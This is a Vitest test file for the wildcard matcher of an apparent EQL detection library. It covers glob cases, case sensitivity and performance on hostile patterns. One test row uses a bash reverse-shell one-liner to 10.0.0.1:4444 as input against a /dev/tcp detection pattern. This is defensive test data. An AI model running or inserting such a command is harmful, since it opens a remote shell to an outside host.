import { describe, expect, it } from 'vitest';
import { compileWildcard } from '../../src/eql/wildcard.js';

describe('wildcard matcher', () => {
  it.each([
    ['abc', 'abc', true],
    ['abc', 'abd', false],
    ['*', '', true],
    ['a*', 'abc', true],
    ['*c', 'abc', true],
    ['a*c', 'ac', true],
    ['a*c', 'a', false],
    ['*b*', 'abc', true],
    ['*b*', 'ac', false],
    ['a?c', 'abc', true],
    ['a?c', 'ac', false],
    ['???', 'abc', true],
    ['??', 'abc', false],
    ['*/dev/tcp/*0>&1*', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', true],
    ['*/dev/tcp/*0>&1*', 'bash -i >& /dev/udp/10.0.0.1/4444 0>&1', false],
    ['a*b?d*e', 'axxbcdyye', true],
    ['a*b?d*e', 'axxbcdyy', false],
    ['*aab', 'aaab', true],
    ['a*a', 'a', false],
    ['\\\\*', '\\\\server', true],
  ])('%s against %s is %s', (pattern, value, expected) => {
    expect(compileWildcard(pattern)(value)).toBe(expected);
  });

  it('is case-sensitive unless asked otherwise (and lower-cases only the pattern)', () => {
    expect(compileWildcard('*BASH')('/bin/bash')).toBe(false);
    expect(compileWildcard('*BASH', true)('/bin/bash')).toBe(true);
  });

  it('answers hostile patterns on 100 KB inputs', () => {
    const haystack = 'a'.repeat(100_000);
    expect(compileWildcard(`${'a*'.repeat(30)}b`)(haystack)).toBe(false);
    expect(compileWildcard(`*${'a*'.repeat(30)}a`)(haystack)).toBe(true);
    expect(compileWildcard(`*${'a?'.repeat(20)}*b*`)(haystack)).toBe(false);
    expect(compileWildcard(`*${'a?'.repeat(20)}*a`)(haystack)).toBe(true);
    expect(compileWildcard('*' + 'a'.repeat(1000) + 'b*')(haystack)).toBe(false);
  });
});
